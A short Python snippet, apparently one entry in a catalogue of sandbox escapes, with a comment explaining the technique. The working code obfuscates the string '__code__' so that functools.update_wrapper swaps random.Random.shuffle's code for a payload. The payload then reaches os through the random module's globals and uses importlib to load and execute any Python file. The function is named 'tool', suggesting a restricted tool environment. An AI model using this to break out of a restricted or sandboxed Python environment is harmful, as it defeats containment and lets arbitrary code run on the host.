# family: stdlib that runs strings
# escape: starred update_wrapper arguments hide "__code__"; random.Random.shuffle then runs the payload with the
# random module's globals, where `_os` is os; os.sys.modules gives importlib.util, whose spec_from_file_location +
# exec_module loads and runs any .py file.
import dataclasses
import functools
import random

def payload(self, path):
    util = _os.sys.modules["importlib.util"]
    spec = util.spec_from_file_location("loaded", path)
    return spec.loader.exec_module(util.module_from_spec(spec))

def tool(path: str, word: str = "code"):
    functools.update_wrapper(*(random.Random.shuffle, payload, ("__" + word + "__",), ()))
    return random.Random().shuffle(path)
